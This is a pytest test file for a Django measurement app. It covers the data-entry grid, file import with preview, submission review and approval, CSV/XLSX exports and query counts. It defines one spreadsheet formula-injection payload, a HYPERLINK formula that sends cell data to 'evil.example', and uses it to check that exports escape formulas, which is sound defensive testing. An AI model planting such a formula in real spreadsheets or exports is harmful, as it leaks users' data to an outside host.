"""The pages of shared measurement through the test client: the entry grid, the file upload with
its preview, review and approval, exports, and query counts that do not grow with the rows."""

import csv
import html
import io
import re
from decimal import Decimal

import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from initiatives.choices import Sector
from initiatives.models import Organization
from measurement import selectors, services
from measurement.choices import AuditAction, SubmissionStatus
from measurement.entry import importer
from measurement.models import AuditEntry, Correction, DataValue, ImportJob, Submission
from tests.queries import assert_queries_constant

from ..permission_matrix import module_world
from .conftest import RULE_MESSAGE, build_mworld, field_name, grid_fields, make_measure

pytestmark = pytest.mark.django_db

# Built once for the module: each test runs in a savepoint of it, with its own copy (module_world).
mworld_once, mworld = module_world("mworld", build_mworld)

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def url(name: str, **kwargs) -> str:
    return reverse(f"measurement:{name}", kwargs={"slug": "c2c", **kwargs})


def entry_url(mworld, period: str = "year", org=None) -> str:
    p = mworld.periods[period]
    return url("entry", org=(org or mworld.org).pk, frequency=p.frequency, period=p.code)


def import_url(mworld, period: str = "year") -> str:
    p = mworld.periods[period]
    return url("import", org=mworld.org.pk, frequency=p.frequency, period=p.code)


def text(response) -> str:
    return response.content.decode()


def flashed(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


def values_of(submission) -> dict:
    return {
        (v.measure.code, v.member1.code if v.member1 else None): (v.value.normalize(), v.comment)
        for v in DataValue.objects.filter(submission=submission).select_related("measure", "member1")
    }


class TestEntryGrid:
    def test_the_grid_has_a_field_per_cell(self, client, mworld):
        client.force_login(mworld.partner)
        response = client.get(entry_url(mworld))
        assert response.status_code == 200
        form = grid_fields(response)
        cells = [
            mworld.cell("enrolled", "area:dalet"),
            mworld.cell("enrolled", "area:hey"),
            mworld.cell("enrolled", "area:vav"),
            mworld.cell("ready-pct"),
            mworld.cell("spend"),
            mworld.cell("attended"),
        ]
        names = {field_name(c) for c in cells}
        assert {n for n in form.fields if n.startswith("v")} == names
        assert {n for n in form.fields if n.startswith("cv")} == {"c" + n for n in names}
        for name in names:
            assert form.attrs[name]["dir"] == "ltr"
            assert form.attrs[name]["inputmode"] == "decimal"
        page = text(response)
        assert "Partner Org: data for" in page
        assert 'data-status="draft"' in page
        assert "Submit for review" in page
        # Opening the page writes nothing: the draft is created by the first save.
        assert not Submission.objects.filter(organization=mworld.org, period=mworld.periods["year"]).exists()

    def test_the_quarterly_grid_has_rows_by_columns(self, client, mworld):
        client.force_login(mworld.partner)
        form = grid_fields(client.get(entry_url(mworld, "quarter")))
        assert set(form.fields) - {"csrfmiddlewaretoken", "loaded_at"} == {
            prefix + field_name(mworld.cell("sessions", a, g))
            for prefix in ("", "c")
            for a in ("area:dalet", "area:hey", "area:vav")
            for g in ("gender:girls", "gender:boys")
        }

    @pytest.mark.parametrize(
        ("language", "breakdown"),
        [("en", "Breakdown: <bdi>Neighbourhood × Gender</bdi>"), ("he", "פילוח: <bdi>שכונה × מגדר</bdi>")],
    )
    def test_the_grid_says_what_a_measure_is_broken_down_by(self, client, mworld, language, breakdown):
        """A row said "ד'" (a neighbourhood, a grade?) and a column "בנות" with no word of what they are."""
        client.force_login(mworld.partner)
        client.cookies["django_language"] = language
        page = text(client.get(entry_url(mworld, "quarter")))
        sessions = page[page.index('data-measure="sessions"') :]
        assert f'<div class="small text-body-secondary" data-breakdown>{breakdown}</div>' in sessions
        # A measure without a breakdown says nothing of one.
        year = text(client.get(entry_url(mworld)))
        spend = year[year.index('data-measure="spend"') :]
        assert "data-breakdown" not in spend[: spend.index("</tr>")]

    def fill(self, mworld, response) -> dict:
        form = grid_fields(response).fields
        typed = {field_name(c): v for c, v in mworld.valid_year().items()}
        assert set(typed) <= set(form)
        return {**form, **typed}

    def test_save_a_draft_then_change_it(self, client, mworld):
        client.force_login(mworld.partner)
        page = entry_url(mworld)
        data = self.fill(mworld, client.get(page))
        data[("c" + field_name(mworld.cell("spend")))] = "From the audited accounts"
        response = client.post(page, {**data, "save": ""})
        assert response.status_code == 302
        assert response["Location"] == page
        assert flashed(response) == ["Draft saved: 6 new, 0 changed, 0 cleared."]
        submission = Submission.objects.get(organization=mworld.org, period=mworld.periods["year"])
        assert submission.status == SubmissionStatus.DRAFT
        assert values_of(submission)[("spend", None)] == (Decimal("1234.5"), "From the audited accounts")
        assert len(values_of(submission)) == 6

        # The page shows what is stored; clear one value and change another.
        form = grid_fields(client.get(page)).fields
        assert form[field_name(mworld.cell("ready-pct"))] == "55.5"
        assert form["c" + field_name(mworld.cell("spend"))] == "From the audited accounts"
        form[field_name(mworld.cell("spend"))] = ""
        form[field_name(mworld.cell("attended"))] = "201"
        response = client.post(page, {**form, "save": ""})
        assert flashed(response) == ["Draft saved: 0 new, 1 changed, 1 cleared."]
        assert ("spend", None) not in values_of(submission)
        assert AuditEntry.objects.filter(submission=submission, action=AuditAction.DELETE).count() == 1

    @pytest.mark.parametrize(
        ("code", "typed", "message"),
        [
            ("attended", "lots", "“lots” is not a number."),
            ("ready-pct", "120", "Enter a percentage between 0 and 100."),
            ("attended", "=B2", "Formulas are not accepted; enter the number itself."),
            ("attended", "400", RULE_MESSAGE),
        ],
    )
    def test_errors_are_shown_next_to_the_cell_and_nothing_is_stored(
        self, client, mworld, code, typed, message
    ):
        client.force_login(mworld.partner)
        page = entry_url(mworld)
        data = self.fill(mworld, client.get(page))
        name = field_name(mworld.cell(code))
        data[name] = typed
        response = client.post(page, {**data, "save": ""})
        assert response.status_code == 400
        form = grid_fields(response)
        assert form.fields[name] == typed  # what was typed is shown again
        assert "is-invalid" in form.attrs[name]["class"]
        assert form.attrs[name]["aria-describedby"] == f"{name}-err"
        feedback = re.search(
            rf'<div class="invalid-feedback d-block" id="{name}-err">(.*?)</div>', text(response)
        )
        assert feedback and html.unescape(feedback.group(1)).strip() == message
        # Only that cell is marked.
        assert text(response).count("invalid-feedback d-block") == 1
        assert "Nothing was saved: correct the marked cells." in text(response)
        assert not DataValue.objects.filter(organization=mworld.org, period=mworld.periods["year"]).exists()

    def test_submit_with_a_missing_required_value(self, client, mworld):
        client.force_login(mworld.partner)
        page = entry_url(mworld)
        data = self.fill(mworld, client.get(page))
        name = field_name(mworld.cell("enrolled", "area:vav"))
        data[name] = ""
        response = client.post(page, {**data, "submit": ""})
        assert response.status_code == 400
        assert f'id="{name}-err">Required. </div>' in text(response)
        assert not Submission.objects.filter(
            status=SubmissionStatus.SUBMITTED, organization=mworld.org
        ).exists()
        assert not DataValue.objects.filter(organization=mworld.org, period=mworld.periods["year"]).exists()

    def test_submit_locks_the_grid(self, client, mworld):
        client.force_login(mworld.partner)
        page = entry_url(mworld)
        data = self.fill(mworld, client.get(page))
        response = client.post(page, {**data, "submit": ""})
        assert flashed(response) == ["Submitted for review. Thank you."]
        submission = Submission.objects.get(organization=mworld.org, period=mworld.periods["year"])
        assert (submission.status, submission.submitted_by) == (SubmissionStatus.SUBMITTED, mworld.partner)

        response = client.get(page)
        form = grid_fields(response)
        assert set(form.fields) == {"csrfmiddlewaretoken", "loaded_at"}  # every input is disabled
        assert field_name(mworld.cell("attended")) in form.disabled
        assert "This submission is locked" in text(response)
        assert "Submit for review" not in text(response)
        # Posting anyway changes nothing: at the locked page's version the lock refuses it (from the
        # page before the submission, the change in between is shown first: test_offline.py).
        stale = client.post(page, {**data, field_name(mworld.cell("attended")): "1", "save": ""})
        assert stale.status_code == 409
        data["loaded_at"] = form.fields["loaded_at"]
        response = client.post(page, {**data, field_name(mworld.cell("attended")): "1", "save": ""})
        assert response.status_code == 302
        assert "locked" in flashed(response)[0]
        assert values_of(submission)[("attended", None)][0] == 200

    def test_a_closed_period_is_refused_for_the_partner(self, client, mworld):
        client.force_login(mworld.partner)
        page = entry_url(mworld, "quarter_closed")
        response = client.get(page)
        assert "closed for data on" in text(response)
        data = {
            **grid_fields(response).fields,
            field_name(mworld.cell("sessions", "area:hey", "gender:boys")): "3",
        }
        response = client.post(page, {**data, "save": ""})
        assert response.status_code == 302
        assert "closed for data on" in flashed(response)[0]
        assert not DataValue.objects.filter(period=mworld.periods["quarter_closed"]).exists()

    def test_the_template_downloads(self, client, mworld):
        client.force_login(mworld.partner)
        p = mworld.periods["year"]
        response = client.get(
            url("template", org=mworld.org.pk, frequency=p.frequency, period=p.code, fmt="csv")
        )
        assert response.status_code == 200
        assert response["Content-Disposition"] == f'attachment; filename="c2c-{mworld.org.pk}-{p.code}.csv"'
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[0] == importer.COLUMNS
        assert len(rows) == 7
        response = client.get(
            url("template", org=mworld.org.pk, frequency=p.frequency, period=p.code, fmt="xlsx")
        )
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert [c.value for c in sheet[1]] == importer.COLUMNS
        assert (
            client.get(
                url("template", org=mworld.org.pk, frequency=p.frequency, period=p.code, fmt="pdf")
            ).status_code
            == 404
        )


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


class TestImportFlow:
    def good_csv(self, mworld) -> bytes:
        y = mworld.periods["year"].code
        lines = [",".join(importer.COLUMNS)] + [
            f"enrolled,{y},dalet,,110,",
            f"enrolled,{y},hey,,100,",
            f"enrolled,{y},vav,,105,",
            f"attended,{y},,,200,",
        ]
        return ("\n".join(lines) + "\n").encode()

    def test_upload_preview_confirm(self, client, mworld):
        client.force_login(mworld.partner)
        page = import_url(mworld)
        response = client.get(page)
        assert response.status_code == 200
        assert "measure, period, breakdown_1, breakdown_2, value, comment" in text(response)

        response = client.post(page, {"file": upload("mine.csv", self.good_csv(mworld))})
        assert response.status_code == 302
        job = ImportJob.objects.get()
        assert response["Location"] == url("import_preview", pk=job.pk)
        assert not DataValue.objects.filter(organization=mworld.org, period=mworld.periods["year"]).exists()

        response = client.get(response["Location"])
        page_text = text(response)
        assert "Checking mine.csv" in page_text
        assert 'new: <span class="number">4</span>' in page_text
        assert page_text.count('data-status="create"') == 4
        assert "Import these values" in page_text

        response = client.post(url("import_preview", pk=job.pk))
        assert response.status_code == 302
        # The partner is taken to the imported draft and asked to submit it.
        assert response["Location"] == entry_url(mworld)
        assert flashed(response) == [
            "Imported: 4 new values, 0 changed, 0 unchanged. They are a draft: check them and submit them "
            "for review."
        ]
        submission = Submission.objects.get(organization=mworld.org, period=mworld.periods["year"])
        assert values_of(submission) == {
            ("enrolled", "dalet"): (110, ""),
            ("enrolled", "hey"): (100, ""),
            ("enrolled", "vav"): (105, ""),
            ("attended", None): (200, ""),
        }
        # Once imported, the preview says so and a second confirmation changes nothing.
        assert "This file was imported." in text(client.get(url("import_preview", pk=job.pk)))
        response = client.post(url("import_preview", pk=job.pk))
        assert flashed(response) == ["This file was already imported."]
        assert AuditEntry.objects.filter(submission=submission, action=AuditAction.IMPORT).count() == 4

    def test_a_refused_file_is_shown_on_the_form(self, client, mworld):
        client.force_login(mworld.partner)
        response = client.post(import_url(mworld), {"file": upload("mine.csv", b"code,value\nx,1\n")})
        assert response.status_code == 200
        assert "The first row must be the columns" in text(response)
        assert not ImportJob.objects.exists()

    def test_a_too_large_file_is_refused_before_it_is_read(self, client, mworld, monkeypatch):
        monkeypatch.setattr(importer, "MAX_BYTES", 50)
        client.force_login(mworld.partner)
        response = client.post(import_url(mworld), {"file": upload("mine.csv", self.good_csv(mworld))})
        assert response.status_code == 200
        assert "The file is larger than" in text(response)
        assert not ImportJob.objects.exists()

    def test_rejected_rows_are_listed_and_cannot_be_confirmed(self, client, mworld):
        client.force_login(mworld.partner)
        data = self.good_csv(mworld) + f"spend,{mworld.periods['year'].code},,,=1+2,\n".encode()
        response = client.post(import_url(mworld), {"file": upload("mine.csv", data)})
        job = ImportJob.objects.get()
        page_text = text(client.get(response["Location"]))
        assert "Some rows are refused, so nothing can be imported." in page_text
        assert "Formulas are not accepted; enter the number itself." in page_text
        assert "Import these values" not in page_text
        response = client.post(url("import_preview", pk=job.pk))
        assert "1 rows cannot be imported; nothing was saved." in flashed(response)[0]
        assert not DataValue.objects.filter(organization=mworld.org, period=mworld.periods["year"]).exists()

    def test_someone_elses_preview_is_404(self, client, mworld):
        client.force_login(mworld.partner)
        client.post(import_url(mworld), {"file": upload("mine.csv", self.good_csv(mworld))})
        job = ImportJob.objects.get()
        client.force_login(mworld.backbone)
        assert client.get(url("import_preview", pk=job.pk)).status_code == 404
        assert client.post(url("import_preview", pk=job.pk)).status_code == 404
        job.refresh_from_db()
        assert job.committed_at is None


class TestReview:
    def submission_url(self, submission) -> str:
        return url("submission", pk=submission.pk)

    def test_the_queue_lists_submitted_data(self, client, mworld):
        client.force_login(mworld.backbone)
        page_text = text(client.get(url("review")))
        assert "Partner B" in page_text
        assert self.submission_url(mworld.b_submission) in page_text
        assert self.submission_url(mworld.closed_submission) not in page_text
        approved = text(client.get(url("review") + "?status=approved"))
        assert self.submission_url(mworld.closed_submission) in approved
        assert self.submission_url(mworld.b_submission) not in approved
        # The measurement home page lists it too.
        assert self.submission_url(mworld.b_submission) in text(client.get(url("home")))

    def test_approve_through_the_page(self, client, mworld):
        client.force_login(mworld.backbone)
        page = self.submission_url(mworld.b_submission)
        page_text = text(client.get(page))
        assert "B-ONLY-COMMENT" in page_text and "12.5" in page_text
        assert 'name="action" value="approve"' in page_text
        response = client.post(page, {"action": "approve"})
        assert response.status_code == 302
        assert flashed(response) == ["Approved. The values are locked."]
        mworld.b_submission.refresh_from_db()
        assert mworld.b_submission.status == SubmissionStatus.APPROVED
        page_text = text(client.get(page))
        assert 'data-status="approved"' in page_text
        assert '<li class="mb-1" data-action="approve">' in page_text
        assert 'name="action" value="approve"' not in page_text
        assert 'name="action" value="unlock"' in page_text
        # Approving twice is refused with a message.
        response = client.post(page, {"action": "approve"})
        assert flashed(response) == ["A submission that is approved cannot be approved."]

    @pytest.mark.parametrize(("language", "member"), [("en", "Dalet"), ("he", "ד'")])
    def test_the_page_lists_values_and_history_as_stored(self, client, mworld, language, member):
        """The values and the history (templates/measurement/_value_rows.html, _audit_items.html): a zero is
        "0" (the template's `default` filter once showed it as "—", like a cleared value), names
        are in the page's language and escaped, dates are in the initiative's time zone."""
        closed = mworld.closed_submission
        mworld.backbone.first_name, mworld.backbone.last_name = "Dana", "Levi"
        mworld.backbone.save(update_fields=["first_name", "last_name"])
        services.submission_unlock(submission=closed, by=mworld.backbone, reason="Fix <b>it</b>")
        dalet = mworld.cell("enrolled", "area:dalet")
        services.values_save(submission=closed, by=mworld.backbone, raw={dalet: "0"}, replace=False)
        services.values_save(submission=closed, by=mworld.backbone, raw={dalet: "7"}, replace=False)
        client.force_login(mworld.backbone)
        client.cookies["django_language"] = language
        page_text = text(client.get(self.submission_url(closed)))
        audit = page_text[page_text.index('id="audit"') :]
        assert f'<span class="number">enrolled</span> · <bdi>{html.escape(member)}</bdi> ' in audit
        assert '<span class="number text-nowrap" dir="ltr">100 → 0</span>' in audit
        assert '<span class="number text-nowrap" dir="ltr">0 → 7</span>' in audit
        # Who, by the name they gave (as every other page names people), not their username.
        assert "<bdi>Dana Levi</bdi>: " in audit and f"<bdi>{mworld.backbone.username}</bdi>" not in audit
        assert "— <bdi>Fix &lt;b&gt;it&lt;/b&gt;</bdi></li>" in audit
        values = page_text[page_text.index("<tbody>") : page_text.index("</tbody>")]
        assert (
            # Under correction: the approved 100 stays, the partner's 7 is proposed beside it.
            f'<tr><td class="number">enrolled</td><td><bdi>{html.escape(member)}</bdi></td><td class="number">100'
            ' → <strong data-proposed="7.000000">7</strong></td>' in values
        )
        moment = AuditEntry.objects.filter(submission=closed).latest("id").at
        from django.utils import formats, timezone

        assert formats.date_format(timezone.localtime(moment), "SHORT_DATETIME_FORMAT") in audit

    def test_the_history_pages_beyond_300_lines(self, client, mworld):
        closed = mworld.closed_submission
        known = AuditEntry.objects.filter(submission=closed).count()
        AuditEntry.objects.bulk_create(
            AuditEntry(
                initiative=mworld.initiative,
                organization=closed.organization,
                submission=closed,
                action=AuditAction.SUBMIT,
                reason=f"line {i}",
                by=mworld.backbone,
            )
            for i in range(305 - known)
        )
        client.force_login(mworld.backbone)
        page = self.submission_url(closed)
        first = text(client.get(page))
        assert first.count('<li class="mb-1" data-action=') == 300
        assert (
            '<a href="?history=2#audit" rel="next">Older entries</a>' in first
            and "Newer entries" not in first
        )
        second = text(client.get(page + "?history=2"))
        assert second.count('<li class="mb-1" data-action=') == 5
        assert (
            '<a href="?history=1#audit" rel="prev">Newer entries</a>' in second
            and "Older entries" not in second
        )
        # Newest first: the added lines (newer than the fixture's) fill the first page, and the
        # fixture's oldest lines are on the second.
        newest = 305 - known - 1
        assert first.index(f"— <bdi>line {newest}</bdi></li>") < first.index("— <bdi>line 0</bdi></li>")
        assert "— <bdi>line " not in second and 'data-action="create"' in second
        for odd in ("abc", "-1", "0", "99999999999999999999", "1" * 18):
            response = client.get(page + "?history=" + odd)
            assert response.status_code == 200, odd

    def test_return_needs_a_message(self, client, mworld):
        client.force_login(mworld.backbone)
        page = self.submission_url(mworld.b_submission)
        response = client.post(page, {"action": "return", "message": ""})
        assert response.status_code == 400
        assert "This field is required." in text(response)
        mworld.b_submission.refresh_from_db()
        assert mworld.b_submission.status == SubmissionStatus.SUBMITTED

        response = client.post(page, {"action": "return", "message": "Vav looks low; please check."})
        assert response.status_code == 302
        mworld.b_submission.refresh_from_db()
        assert (mworld.b_submission.status, mworld.b_submission.message) == (
            SubmissionStatus.RETURNED,
            "Vav looks low; please check.",
        )
        # Partner B sees the message on its grid, which is open again.
        client.force_login(mworld.partner_b)
        response = client.get(entry_url(mworld, org=mworld.org_b))
        assert "Vav looks low; please check." in text(response)
        assert field_name(mworld.cell("pop-rate")) in grid_fields(response).fields

    def test_unlock_with_a_reason(self, client, mworld):
        client.force_login(mworld.backbone)
        closed = mworld.closed_submission
        page = self.submission_url(closed)
        response = client.post(page, {"action": "unlock", "reason": ""})
        assert response.status_code == 400
        closed.refresh_from_db()
        assert closed.status == SubmissionStatus.APPROVED
        response = client.post(page, {"action": "unlock", "reason": "Dalet was double counted."})
        assert flashed(response) == ["Unlocked for correction."]
        closed.refresh_from_db()
        assert closed.status == SubmissionStatus.DRAFT
        # The backbone corrects a value: the page shows it as changed since the approval.
        services.values_save(
            submission=closed,
            by=mworld.backbone,
            raw={mworld.cell("enrolled", "area:dalet"): "90"},
            replace=False,
        )
        page_text = text(client.get(page))
        changes = re.search(
            r'<section class="card border-warning mb-3" id="changes">(.*?)</section>', page_text, re.S
        )
        assert changes and "enrolled" in changes.group(1) and "100 → 90" in changes.group(1)
        assert "Dalet was double counted." in page_text
        assert '<li class="mb-1" data-action="unlock">' in page_text

    @pytest.mark.parametrize("persona", ["partner", "partner_b", "steering", "viewer"])
    def test_only_the_backbone_acts_on_the_page(self, client, mworld, persona):
        who = mworld.partner_b if persona == "partner_b" else mworld.world.people[persona]
        client.force_login(who)
        response = client.post(self.submission_url(mworld.b_submission), {"action": "approve"})
        assert response.status_code == 403
        mworld.b_submission.refresh_from_db()
        assert mworld.b_submission.status == SubmissionStatus.SUBMITTED

    def test_an_unknown_action(self, client, mworld):
        client.force_login(mworld.backbone)
        response = client.post(self.submission_url(mworld.b_submission), {"action": "delete"})
        assert flashed(response) == ["Unknown action."]
        mworld.b_submission.refresh_from_db()
        assert mworld.b_submission.status == SubmissionStatus.SUBMITTED


class TestExports:
    @pytest.fixture
    def evil(self, mworld):
        submission = mworld.submission("year", by=mworld.partner)
        services.values_save(submission=submission, by=mworld.partner, raw=mworld.valid_year())
        # Every channel refuses such comments now (entry.comment_problem); data stored before that,
        # or written by an administrator, must still leave an export escaped.
        for cell, comment in ((mworld.cell("spend"), EVIL), (mworld.cell("attended"), "-1 on Tuesday")):
            DataValue.objects.filter(
                submission=submission, measure_id=cell[0], member1_id=cell[1], member2_id=cell[2]
            ).update(comment=comment)
        return submission

    def test_csv_escapes_formulas(self, client, mworld, evil):
        client.force_login(mworld.backbone)
        response = client.get(url("export", fmt="csv"))
        assert response.status_code == 200
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith('attachment; filename="c2c-values-')
        assert response.content.startswith("\ufeff".encode())
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[0] == [
            "measure",
            "period",
            "organization",
            "breakdown_1",
            "breakdown_2",
            "value",
            "comment",
            "updated_at",
        ]
        by_comment = {r[6]: r for r in rows[1:] if r[6]}
        assert set(by_comment) == {"'" + EVIL, "'-1 on Tuesday", "B-ONLY-COMMENT"}
        spend = by_comment["'" + EVIL]
        assert spend[:6] == ["spend", mworld.periods["year"].code, "Partner Org", "", "", "1234.5"]
        # Values are plain numbers, without exponent.
        values = {(r[0], r[1], r[2], r[3]): r[5] for r in rows[1:]}
        assert values[("enrolled", mworld.periods["year_closed"].code, "Partner Org", "dalet")] == "100"
        assert not any(r[6].startswith(("=", "+", "-", "@")) for r in rows[1:])

    def test_xlsx_escapes_formulas(self, client, mworld, evil):
        client.force_login(mworld.backbone)
        response = client.get(url("export", fmt="xlsx"))
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.content)).active
        rows = list(sheet.iter_rows(values_only=True))
        assert rows[0][6] == "comment"
        comments = {r[6] for r in rows[1:] if r[6]}
        assert comments == {"'" + EVIL, "'-1 on Tuesday", "B-ONLY-COMMENT"}
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        spend = next(r for r in rows[1:] if r[0] == "spend")
        assert spend[5] == 1234.5

    def test_an_unknown_format_is_404(self, client, mworld):
        client.force_login(mworld.backbone)
        assert client.get(url("export", fmt="pdf")).status_code == 404


def add_reporting_orgs(mworld, n: int, start: int = 0) -> None:
    """n more organisations, each reporting "spend" for the current year, submitted."""
    period = mworld.periods["year"]
    pairs = set(mworld.initiative.assignments.values_list("organization_id", "measure_id"))
    orgs = [Organization.objects.create(name=f"Extra {start + i}", sector=Sector.BUSINESS) for i in range(n)]
    for org in orgs:
        mworld.initiative.participations.create(organization=org)
        pairs.add((org.pk, mworld.measures["spend"].pk))
    services.assignments_set(initiative=mworld.initiative, by=mworld.backbone, pairs=pairs)
    for org in orgs:
        submission = services.submission_for(
            initiative=mworld.initiative, organization=org, period=period, by=mworld.backbone
        )
        services.values_save(
            submission=submission, by=mworld.backbone, raw={mworld.cell("spend"): "10"}, submit=True
        )


def page(client, path: str):
    def get():
        assert client.get(path).status_code == 200

    return get


class TestQueryCounts:
    @pytest.mark.parametrize("persona", ["backbone", "partner"])
    def test_home(self, client, mworld, persona):
        client.force_login(mworld.world.people[persona])

        def grow():
            for i in range(4):
                measure = make_measure(
                    mworld.initiative,
                    mworld.backbone,
                    f"more-{i}",
                    dimensions=[mworld.dimensions["area"], mworld.dimensions["gender"]],
                )
                pairs = set(mworld.initiative.assignments.values_list("organization_id", "measure_id"))
                services.assignments_set(
                    initiative=mworld.initiative,
                    by=mworld.backbone,
                    pairs=pairs | {(mworld.org.pk, measure.pk)},
                )
            add_reporting_orgs(mworld, 3)

        assert_queries_constant(page(client, url("home")), grow, exact=True)

    def test_review(self, client, mworld):
        client.force_login(mworld.backbone)
        add_reporting_orgs(mworld, 1)
        assert_queries_constant(
            page(client, url("review")), lambda: add_reporting_orgs(mworld, 5, start=1), exact=True
        )
        assert text(client.get(url("review"))).count("Extra ") == 6

    def test_submission(self, client, mworld):
        client.force_login(mworld.backbone)
        closed = mworld.closed_submission
        services.submission_unlock(submission=closed, by=mworld.backbone, reason="More")
        services.values_save(
            submission=closed, by=mworld.backbone, raw={mworld.cell("spend"): "1"}, replace=False
        )

        def grow():
            # More values, more audit rows, more changes since the approval.
            measure = make_measure(
                mworld.initiative,
                mworld.backbone,
                "more",
                dimensions=[mworld.dimensions["area"], mworld.dimensions["gender"]],
            )
            pairs = set(mworld.initiative.assignments.values_list("organization_id", "measure_id"))
            services.assignments_set(
                initiative=mworld.initiative, by=mworld.backbone, pairs=pairs | {(mworld.org.pk, measure.pk)}
            )
            grid = [
                g
                for g in selectors.dataset(mworld.initiative, mworld.org, closed.period)
                if g.measure == measure
            ][0]
            services.values_save(
                submission=closed,
                by=mworld.backbone,
                raw={(measure.pk, *c): "5" for c in grid.cells},
                replace=False,
            )
            services.values_save(
                submission=closed,
                by=mworld.backbone,
                raw={mworld.cell("enrolled", "area:hey"): "99"},
                replace=False,
            )
            # Under correction the approved values stay and the changes wait as corrections.
            assert DataValue.objects.filter(submission=closed).count() == 5
            assert Correction.objects.filter(submission=closed).count() == 8

        assert_queries_constant(page(client, url("submission", pk=closed.pk)), grow, exact=True)

    def test_entry(self, client, mworld):
        client.force_login(mworld.partner)
        client.get(entry_url(mworld, "quarter"))  # the first visit creates the draft submission

        def grow():
            measure = make_measure(
                mworld.initiative,
                mworld.backbone,
                "more",
                dimensions=[mworld.dimensions["gender"]],
                frequency="quarterly",
            )
            pairs = set(mworld.initiative.assignments.values_list("organization_id", "measure_id"))
            services.assignments_set(
                initiative=mworld.initiative, by=mworld.backbone, pairs=pairs | {(mworld.org.pk, measure.pk)}
            )

        assert_queries_constant(page(client, entry_url(mworld, "quarter")), grow, exact=True)
